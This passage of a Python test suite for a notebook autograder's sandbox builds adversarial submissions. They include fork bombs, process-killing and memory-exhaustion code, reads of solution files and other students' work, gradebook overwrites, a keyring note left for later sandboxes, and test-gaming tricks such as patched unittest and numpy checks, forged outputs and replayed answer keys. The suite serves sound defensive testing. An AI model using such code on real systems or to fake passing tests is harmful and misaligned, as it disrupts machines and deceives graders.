    return [f"{d}/{name}" for d in outside_dirs(ctx)] + [f"/bundle/{name}", f"../{name}"]


def outside_dirs(ctx: Context) -> list[str]:
    """Host folders a submission must never write to (the tests look for markers there)."""
    c = ctx.course
    return ["/tmp", "/var/tmp", "/dev/shm", "/root", str(c), str(c / "submitted"),
            str(c / "submitted" / "alice_solved" / release.ASSIGNMENT), str(release.ROOT),
            str(release.ROOT / ".cache"), str(release.ROOT / "model")]


# ----------------------------------------------------------------------------------------
# The cases
# ----------------------------------------------------------------------------------------
def cases() -> list[Case]:
    S = lambda f: (lambda ctx: Submission(f(ctx)))  # noqa: E731 - a notebook-only submission
    solved_after3 = lambda src: S(lambda ctx: after_exercise(ctx.solved, "GRULM", src))  # noqa: E731
    solved_end = lambda src: S(lambda ctx: at_end(ctx.solved, src))  # noqa: E731
    garbage_pre = lambda src: S(lambda ctx: after_preamble(garbage(ctx), src))  # noqa: E731

    return [
        # --- time ---------------------------------------------------------------------------
        Case("t01_infinite_loop", solved_after3(INFINITE_LOOP), FULL, ("time limit",),
             why="An endless loop after exercise 3 is interrupted at the cell time limit; the rest still runs."),
        Case("t02_loop_ignoring_sigint", solved_after3(LOOP_IGNORING_SIGINT), FIRST3, ("time limit",),
             why="An endless loop that ignores SIGINT cannot be interrupted: the sandbox is killed at the "
                 "wall time limit; exercises 1-3 keep their points."),
        Case("t04_endless_generate_n_chars",
             S(lambda ctx: release.with_solutions(ctx.untouched, EXERCISES, lambda n, src: src.replace(
                 "        for _ in range(num_chars):", NEVER_RETURNS + "        for _ in range(num_chars):")
                 if n == "GenerativeModel" else src)),
             without("GenerativeModel"), ("time limit",),
             why="A student function that never returns when the grader calls it: that exercise gets 0."),
        # --- memory -------------------------------------------------------------------------
        Case("m01_bytearray_64gib", solved_after3(BYTEARRAY_64G), FULL, ("memory limit",),
             why="bytearray(64 GiB) fails at the address-space limit with a MemoryError; the rest runs."),
        Case("m02_growing_list", solved_end(GROWING_LIST), FULL, ("memory limit",),
             why="A list growing by 100 MiB a step hits the memory limit, after every graded cell ran. (Earlier "
                 "in the notebook, IPython's traceback would keep the memory and starve the cells after it.)"),
        Case("m03_small_objects_forever", solved_end(SMALL_OBJECTS_FOREVER), FULL, ("memory limit", "kernel died"),
             why="A global list of small strings until memory runs out, after every graded cell ran."),
        # --- processes ------------------------------------------------------------------------
        Case("p01_fork_many", solved_after3(FORK_MANY), FULL, ("process limit", "kernel died", "time limit"),
             why="Forking, then spawning, until it fails (children exit at once, unreaped): the process limit stops it."),
        Case("p02_fork_bomb_exponential", solved_end(FORK_EXPONENTIAL), FULL, ANY,
             why="A doubling fork bomb after every graded cell: the batch and the machine survive."),
        Case("p03_orphan_daemon", lambda ctx: Submission(after_exercise(
            ctx.solved, "GRULM", ORPHAN.format(marker=ctx.marker("orphan")))), FULL, ("",),
             why="Detached processes meant to outlive the notebook; the tests check none is left."),
        # --- the kernel dies ------------------------------------------------------------------
        Case("k01_os_exit", solved_after3(OS_EXIT), FIRST3, ("kernel died",),
             why="os._exit(0) after exercise 3."),
        Case("k02_sigkill_self", solved_after3(SIGKILL_SELF), FIRST3, ("kernel died",),
             why="The kernel kills itself with SIGKILL after exercise 3."),
        Case("k03_segfault", solved_after3(SEGFAULT), FIRST3, ("kernel died",),
             why="ctypes.string_at(0): a segmentation fault after exercise 3."),
        Case("k04_kill_parent", solved_after3(KILL_PARENT), FIRST3, ("kernel died",),
             why="The kernel kills the process that runs the notebook (inside the sandbox)."),
        Case("k05_kill_everything", solved_after3(KILL_EVERYTHING), FIRST3, ("kernel died",),
             why="kill(-1, SIGKILL): every process the sandbox user may signal; others are untouched."),
        Case("k06_system_exit_and_input",
             S(lambda ctx: after_exercise(ctx.solved, "GRULM", [SYSTEM_EXIT, SYS_EXIT, ASK_INPUT])), FULL, ("",),
             why="raise SystemExit, sys.exit(3) and input() in cells: errors of those cells only."),
        # --- output ---------------------------------------------------------------------------
        Case("o01_huge_output", solved_after3(HUGE_OUTPUT), FULL, ("output limit",),
             why="200 MiB printed after exercise 3: cut at the output limit; the grades stand."),
        Case("o03_html_in_notebook", S(_html_in_notebook), FULL, ("",),
             why="Script in markdown and raw cells and HTML/JS outputs: the feedback must stay inert."),
        Case("o02_stderr_spam", S(noisy), FULL, ("",),
             why="A correct solution that writes to stderr and warns, when defined and when called."),
        # --- network --------------------------------------------------------------------------
        Case("n01_network_caught", S(lambda ctx: after_exercise(ctx.solved, "GRULM", [SOCKET_CAUGHT, HTTP_CAUGHT])),
             FULL, ("",), why="A correct notebook trying 1.1.1.1:53 and https://pypi.org, catching the failures."),
        Case("n03_download_solutions", S(lambda ctx: after_preamble(ctx.untouched, DOWNLOAD_SOLUTIONS)), ZERO, ("",),
             why="An untouched notebook that downloads solutions: no network, no points."),
        # --- files ----------------------------------------------------------------------------
        Case("f01_steal_course_source", S(lambda ctx: _steal_from(ctx, _course_paths(ctx))), ZERO, ("",),
             why="Solution cells exec the source notebook's solutions, read by absolute path."),
        Case("f02_steal_bundle_solutions", S(lambda ctx: _steal_from(ctx, _bundle_paths())), ZERO, ("",),
             why="Solution cells exec the bundle's solutions (source, solutions/, solution.py)."),
        Case("f03_steal_other_student", S(lambda ctx: _steal_from(ctx, _other_student_paths(ctx))), ZERO, ("",),
             why="Solution cells exec another student's submission, read by absolute path."),
        Case("f04_clobber_gradebook", lambda ctx: Submission(at_end(
            ctx.solved, CLOBBER_GRADEBOOK.format(db=str(ctx.course / "gradebook.db")))), FULL, ("",),
             why="A correct notebook that tries to overwrite and update gradebook.db."),
        Case("f05_write_outside", S(lambda ctx: at_end(after_preamble(ctx.solved, WRITE_OUTSIDE.format(
            targets=_write_targets(ctx))), FILESYSTEMS)), FULL, ("",),
             why="A correct notebook writing marker files outside its working directory (and, at the end, "
                 "reporting the file systems it can write to)."),
        Case("f06_delete_cwd_and_chdir_root", S(lambda ctx: after_preamble(ctx.solved, [DELETE_CWD, CHDIR_ROOT.format(
            paths=[str(ctx.course), str(release.ROOT / "deepngrams"), str(release.SOURCE_NB)])])), FULL, ("",),
             why="A correct notebook that deletes everything in its working directory, then moves to / for "
                 "good and looks around, all before exercise 1."),
        Case("f08_big_file", solved_after3(BIG_FILE), FULL, ("",),
             why="Writing a 1 GiB file: the file size limit stops it with an error of that cell."),
        Case("f10_notebook_links_to_source",
             lambda ctx: Submission(None, links={NOTEBOOK: str(ctx.course / "source" / release.ASSIGNMENT / NOTEBOOK)}),
             ZERO, ANY, why="The handed-in notebook is a symbolic link to the course's source notebook."),
        Case("f12_extra_files",
             lambda ctx: Submission(ctx.untouched, files={"w1_unittest.py": PASS_ALL_UNITTEST.encode(),
                                                          "deepngrams_probes.py": FAKE_PROBE_MODULE.encode(),
                                                          "sitecustomize.py": SITECUSTOMIZE.encode(),
                                                          "extra.ipynb": nbformat.writes(garbage(ctx)).encode()},
                                    links={"source": str(ctx.course / "source")}),
             ZERO, ("",), why="Files handed in beside an untouched notebook: a pass-all w1_unittest.py, a fake "
                              "probe module, sitecustomize.py, a link to source/."),
        # --- patching and faking --------------------------------------------------------------
        Case("x01_garbage_baseline", S(garbage), ZERO, ("",),
             why="Callable but wrong code in every solution cell (the base of the next cases)."),
        Case("x02_patch_unittest", garbage_pre(PATCH_UNITTEST), ZERO, ("",),
             why="w1_unittest's tests replaced by no-ops printing 'All tests passed'."),
        Case("x03_patch_numpy", garbage_pre(PATCH_NUMPY), ZERO, ("",),
             why="numpy.allclose / array_equal (and friends) always True."),
        Case("x04_patch_builtins", garbage_pre(PATCH_BUILTINS), ZERO, ANY,
             why="isinstance, abs, float, all, any patched in builtins."),
        Case("x05_patch_display_and_stdout", garbage_pre(PATCH_DISPLAY), ZERO, ANY,
             why="stdout, display and tracebacks replaced by 'All tests passed'."),
        Case("x06_forge_probe_results", garbage_pre(FORGE_OBSERVATIONS), ZERO, ("",),
             why="The grader's probe function replaced by one that displays forged observations "
                 "(for create_batch_dataset: the right element_spec and no batches at all)."),
        Case("x07_forge_after_every_cell", garbage_pre(FORGE_AFTER_EVERY_CELL), ZERO, ("",),
             why="A post_run_cell hook displays forged observations after every cell."),
        Case("x08_fake_outputs_in_file", S(_fake_outputs), ZERO, ("",),
             why="Untouched solutions, with 'All tests passed' outputs stored in the file."),
        Case("x09_forge_structure", garbage_pre(FORGE_STRUCTURE), ZERO, ("",),
             why="Forged observations for the structural checks (GRULM's layers, compile_model), made "
                 "from the inputs alone, with no working code behind them."),
        # --- repairs ----------------------------------------------------------------------------
        Case("r01_edited_tests", S(_edited_tests), FULL, ("",),
             why="Every test cell's source replaced by `pass`."),
        Case("r02_deleted_tests", S(lambda ctx: with_test_cells(ctx.solved, lambda cs: [c for c in cs if not _is_test(c)])),
             FULL, ("",), notes=("deleted", "put back", "missing", "restored"),
             why="Every test cell deleted: they are put back and run."),
        Case("r03_duplicated_tests", S(_duplicated_tests), FULL, ("",), notes=("appears", "duplicat", "copied", "twice"),
             why="Every test cell duplicated: each counts once."),
        Case("r04_copied_solution_cell", S(_copied_solution), FULL, ("",), notes=("appears", "duplicat", "copied", "twice"),
             why="The GRULM solution cell copied to the end."),
        Case("r05_wrong_kernel", S(lambda ctx: _kernel(ctx.solved, "ir", "R", "R")), FULL, ("",), notes=("kernel",),
             why="kernelspec ir / R: replaced by the course's python3."),
        Case("r07_no_solution_metadata",
             S(lambda ctx: _strip_metadata(ctx.solved, lambda c: c.metadata.get("nbgrader", {}).get("solution"))),
             FULL, ("",), why="The solution cells' nbgrader metadata removed."),
        Case("r08_no_nbgrader_metadata", S(lambda ctx: _strip_metadata(ctx.solved, lambda c: True)), FULL, ("",),
             notes=("deleted", "put back", "missing", "restored"),
             why="All nbgrader metadata removed (cells pasted into a fresh notebook)."),
        Case("r09_inflated_points", S(lambda ctx: _inflated_points(ctx.solved)), FULL, ("",),
             why="Test cells claiming 100 points each: the source's points count."),
        Case("r11_fake_graded_cell", S(lambda ctx: _fake_graded_cell(ctx.solved)), FULL, ("",),
             why="A made-up graded cell worth 50 points (on a solved notebook): earns nothing, breaks nothing."),
        Case("r10_alternative_style", S(alternative), FULL, ("",),
             why="Correct solutions written differently (dict lookups, numpy, tf.random.categorical ...)."),
        # --- broken files ---------------------------------------------------------------------
        Case("b01_not_json", lambda ctx: Submission(b"{ this is not a notebook"), ZERO, ("not json",)),
        Case("b02_empty_file", lambda ctx: Submission(b""), ZERO, ("empty",)),
        Case("b03_nbformat3", lambda ctx: Submission(json.dumps(
            {"nbformat": 3, "nbformat_minor": 0, "worksheets": [], "metadata": {}}).encode()), ZERO, ("nbformat",)),
        Case("b04_nbformat5", lambda ctx: Submission(json.dumps(
            {"nbformat": 5, "nbformat_minor": 0, "cells": [], "metadata": {}}).encode()), ZERO, ("nbformat",)),
        Case("b05_json_list", lambda ctx: Submission(b"[1, 2, 3]"), ZERO, ("not json", "nbformat", "not a notebook")),
        Case("b06_json_nesting_bomb", lambda ctx: Submission(b"[" * 200000 + b"]" * 200000), ZERO,
             ("not json", "nbformat", "not a notebook", "too large"),
             why="Deeply nested JSON (Python's json raises RecursionError, not ValueError)."),
        Case("b07_invalid_utf8", lambda ctx: Submission(
            b'{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5, "x": "\xff\xfe"}'), ZERO,
             ("not json", "nbformat")),
        Case("b08_too_large", S(_too_large), ZERO, ("too large",),
             why="A solved notebook padded to 24 MiB."),
        Case("b10_directory_named_like_the_notebook",
             lambda ctx: Submission(None, files={f"{NOTEBOOK}/notes.txt": b"a folder, not a notebook"}), ZERO, ANY,
             why="A folder named deep_ngrams.ipynb: no points, and the batch goes on."),
        Case("b09_invalid_nbformat4", lambda ctx: Submission(json.dumps(
            {"nbformat": 4, "nbformat_minor": 5, "cells": [{"cell_type": "code", "source": 42}], "metadata": {}}
        ).encode()), ZERO, ("nbformat",), why="nbformat 4 in name, but not valid."),
        Case("b11_minor_version_as_text", lambda ctx: Submission(json.dumps(
            dict(json.loads(nbformat.writes(ctx.solved)), nbformat_minor="5")).encode()), ZERO, ("nbformat",),
             why="nbformat's error for it has no message: the preflight once raised on it and stopped the batch."),
        *oracle_cases(),
    ]


# ----------------------------------------------------------------------------------------
# Oracles, answer keys and weak sampling: correct code everywhere except one exercise, where
# the code tries to earn the points without solving it
# ----------------------------------------------------------------------------------------
ORACLE_GRULM_PRETRAINED = '''
class GRULM(tf.keras.Model):
    """The right layers, but the answers come from the tests' own pretrained model."""

    def __init__(self, vocab_size=256, embedding_dim=256, rnn_units=128):
        super().__init__()
        self.embedding = tf.keras.layers.Embedding(vocab_size, embedding_dim)
        self.gru = tf.keras.layers.GRU(rnn_units, return_sequences=True, return_state=True)
        self.dense = tf.keras.layers.Dense(vocab_size, activation=tf.nn.log_softmax)

    def call(self, inputs, states=None, return_state=False, training=False):
        self.dense(self.gru(self.embedding(inputs))[0])  # builds the layers
        return w1_unittest.pretrained_lm()(inputs, states=states, return_state=return_state)
'''

ORACLE_GRULM_TEST_MATH = '''
class GRULM(tf.keras.Model):
    """The right layers, but the GRU is computed by the tests' own plain-TensorFlow implementation."""

    def __init__(self, vocab_size=256, embedding_dim=256, rnn_units=128):
        super().__init__()
        self.embedding = tf.keras.layers.Embedding(vocab_size, embedding_dim)
        self.gru = tf.keras.layers.GRU(rnn_units, return_sequences=True, return_state=True)
        self.dense = tf.keras.layers.Dense(vocab_size, activation=tf.nn.log_softmax)

    def call(self, inputs, states=None, return_state=False, training=False):
        self.dense(self.gru(self.embedding(inputs))[0])
        lm = object.__new__(w1_unittest._PretrainedLM)
        lm.embedding_matrix = tf.constant(self.embedding.get_weights()[0])
        kernel, recurrent, bias = self.gru.get_weights()
        lm.kernel, lm.recurrent_kernel = tf.constant(kernel), tf.constant(recurrent)
        lm.input_bias, lm.recurrent_bias = tf.constant(bias[0]), tf.constant(bias[1])
        lm.dense_kernel, lm.dense_bias = (tf.constant(w) for w in self.dense.get_weights())
        lm.vocab_size, lm.units = int(lm.embedding_matrix.shape[0]), int(recurrent.shape[0])
        return lm(inputs, states=states, return_state=return_state)
'''

ORACLE_GENERATIVE = '''
class GenerativeModel(tf.keras.Model):
    """Asks the model handed in for its expected text, or looks it up in the public reference
    values; otherwise writes anything of the right length."""

    KNOWN = {known!r}

    def __init__(self, model, vocab, temperature=1.0):
        super().__init__()
        self.model, self.vocab, self.temperature = model, vocab, temperature

    def generate_one_step(self, inputs, states=None):
        ids = line_to_tensor(inputs, self.vocab).to_tensor()
        log_probs, states = self.model(inputs=ids, states=states, return_state=True)
        mask = tf.constant([-np.inf, -np.inf] + [0.0] * (len(self.vocab) - 2))
        ids = temperature_random_sampling(log_probs[:, -1, :] + mask, self.temperature)
        return text_from_ids(ids[:, tf.newaxis], self.vocab), states

    def generate_n_chars(self, num_chars, prefix):
        if hasattr(self.model, "expected"):
            return self.model.expected(prefix, num_chars)
        if prefix in self.KNOWN:
            return prefix + self.KNOWN[prefix][:num_chars]
        return prefix + "e" * num_chars
'''

REPLAY_ANSWERS = '''
import json as _json
_KEY = _json.loads({key!r})


def _lookup(kind, data):
    return _KEY.get(kind + ":" + _json.dumps(data))


def line_to_tensor(line, vocab):
    """Answers copied from another submission's graded cases; zeros for anything else."""
    found = _lookup("line", line)
    if found is None:
        return tf.zeros([len(line)], dtype=tf.int64)
    return tf.ragged.constant(found, dtype=tf.int64) if isinstance(line, list) else tf.constant(found, dtype=tf.int64)


def log_perplexity(preds, target):
    found = _lookup("perplexity", np.asarray(target).tolist())
    return float("nan") if found is None else found
'''


KEYRING_LEFT_BEHIND = LEAK + '''
import ctypes, os
_libc = ctypes.CDLL(None, use_errno=True)
_ADD_KEY, _KEYCTL = {"x86_64": (248, 250), "aarch64": (217, 219)}[os.uname().machine]
_persistent = _libc.syscall(_KEYCTL, 22, -1, -3)  # KEYCTL_GET_PERSISTENT: outlives the process
for _ring in (-4, -5, -3, _persistent):  # user, user-session, session, persistent keyrings
    if _ring == -1:
        continue
    if _libc.syscall(_ADD_KEY, b"user", b"deepngrams-hostile-note", b"left for the next sandbox", 25, _ring) >= 0:
        _leak("a key was added to keyring", _ring)
print("keyrings: refused")
'''

PROCESSES_TOGETHER_OVER_MEMORY = INSIDE_BWRAP + '''
import subprocess, sys
if _inside_own_process_tree():  # outside a sandbox this would really take 5 GiB: do nothing
    _children = [subprocess.Popen([sys.executable, "-c",
                                   "import time; b = bytearray(1 << 30); b[::4096] = bytes(1 << 18); time.sleep(120)"])
                 for _ in range(5)]
    for _child in _children:
        _child.wait()
'''


def _solved_with(ctx: Context, exercise: str, code: str):
    """The solved notebook with one exercise's solution cell replaced by `code`."""
    nb = copy.deepcopy(ctx.solved)
    for cell in nb.cells:
        if grade_id(cell) == exercise:
            cell.source = code.strip("\n")
    return nb


def _generative_edit(ctx: Context, old: str, new: str):
    """The solved notebook with one line of the GenerativeModel solution changed."""
    def edit(name, src):
        if name == "GenerativeModel":
            assert old in src, old
            return src.replace(old, new)
        return src
    return release.with_solutions(ctx.untouched, EXERCISES, edit)


def _oracle_generative(ctx: Context):
    ref = json.loads((release.ROOT / "model" / "reference_values.json").read_text())
    known = {p["prefix"]: p["continuation"] for p in ref["greedy"]["probes"]}
    return _solved_with(ctx, "GenerativeModel", ORACLE_GENERATIVE.format(known=known))


def _replayed_answers(ctx: Context):
    """line_to_tensor and log_perplexity answer from a key of other submissions' cases (as if copied
    from their feedback, which in fact never shows them)."""
    key = exercises.grading_key(ctx.course)
    table = {}
    for other in ("someone_else", "c07_replay_answer_key"):  # another student; this student's earlier file
        prepared = exercises.draw_cases(exercises.secret_for(key, other, b"an earlier notebook"))
        for cell in ("test_line_to_tensor", "test_line_to_tensor_hidden"):
            for case, want in zip(prepared[cell]["inputs"]["cases"], prepared[cell]["expected"]):
                table["line:" + json.dumps(case["line"])] = want["ids"]
        for cell in ("test_log_perplexity", "test_log_perplexity_hidden"):
            for case, want in zip(prepared[cell]["inputs"]["cases"], prepared[cell]["expected"]):
                table["perplexity:" + json.dumps(case["targets"])] = want["value"]
    nb = _solved_with(ctx, "line_to_tensor", REPLAY_ANSWERS.format(key=json.dumps(table)))
    for cell in nb.cells:
        if grade_id(cell) == "log_perplexity":
            cell.source = "# answered by the replay cell of line_to_tensor\npass"
    return nb


def oracle_cases() -> list[Case]:
    S = lambda f: (lambda ctx: Submission(f(ctx)))  # noqa: E731
    return [
        Case("s01_keyring_left_behind", S(lambda ctx: at_end(ctx.solved, KEYRING_LEFT_BEHIND)), FULL, ("",),
             why="A correct notebook that tries to leave a note in the kernel keyrings (the user's, the session's "
                 "and the persistent one) for the next sandbox of its worker: refused."),
        Case("m04_processes_together_over_memory", S(lambda ctx: at_end(ctx.solved, PROCESSES_TOGETHER_OVER_MEMORY)),
             FULL, ("memory limit",),
             why="Five processes of 1 GiB each, every one under the per-process limit, together over the "
                 "sandbox's 4 GiB: stopped with the memory reason, after every graded cell ran."),
        Case("c01_grulm_calls_the_pretrained_model", S(lambda ctx: _solved_with(ctx, "GRULM", ORACLE_GRULM_PRETRAINED)),
             without("GRULM"), ("",), why="GRULM's call delegates to w1_unittest.pretrained_lm(): the grader's "
                                          "weights are drawn for this submission, and the stand-in has no model."),
        Case("c02_grulm_uses_the_tests_gru", S(lambda ctx: _solved_with(ctx, "GRULM", ORACLE_GRULM_TEST_MATH)),
             without("GRULM"), ("",), why="GRULM computes its GRU with w1_unittest's plain-TF implementation "
                                          "(given its own weights): the graded run has no such implementation."),
        Case("c03_generative_asks_the_model", S(_oracle_generative), without("GenerativeModel"), ("",),
             why="generate_n_chars returns model.expected(...) or the public reference continuations."),
        Case("c04_generative_always_greedy", S(lambda ctx: _generative_edit(
            ctx, "self.temperature = temperature", "self.temperature = 0.0")), without("GenerativeModel"), ("",),
             why="GenerativeModel ignores its temperature and always takes the most likely character."),
        Case("c05_generative_always_temperature_1", S(lambda ctx: _generative_edit(
            ctx, "self.temperature = temperature", "self.temperature = 1.0")), without("GenerativeModel"), ("",),
             why="GenerativeModel samples, but always at temperature 1."),
        Case("c06_generative_multiplies_by_temperature", S(lambda ctx: _generative_edit(
            ctx, "predicted_ids = temperature_random_sampling(predicted_logits, self.temperature)",
            "predicted_ids = temperature_random_sampling(predicted_logits * self.temperature, 1.0)")),
             without("GenerativeModel"), ("",), why="The temperature multiplies the log probabilities."),
        Case("r12_graph_mode_generate_one_step", S(lambda ctx: _generative_edit(
            ctx, "    def generate_one_step(", "    @tf.function\n    def generate_one_step(")), FULL, ("",),
             why="A correct GenerativeModel whose generate_one_step is compiled with tf.function (as the "
                 "TensorFlow tutorial writes it): the models handed to it run in graph mode too."),
        Case("c07_replay_answer_key", S(_replayed_answers),
             without("line_to_tensor", "create_batch_dataset", "log_perplexity", "GenerativeModel"), ("",),
             why="Answers of other submissions' cases, replayed: every submission gets its own cases. (The "
                 "dataset and the generator call line_to_tensor, so they lose their points with it.)"),
    ]


def build_all(ctx: Context) -> dict[str, Submission]:
    """{student: submission} for every case (plus nothing else)."""
    return {case.name: case.build(ctx) for case in cases()}
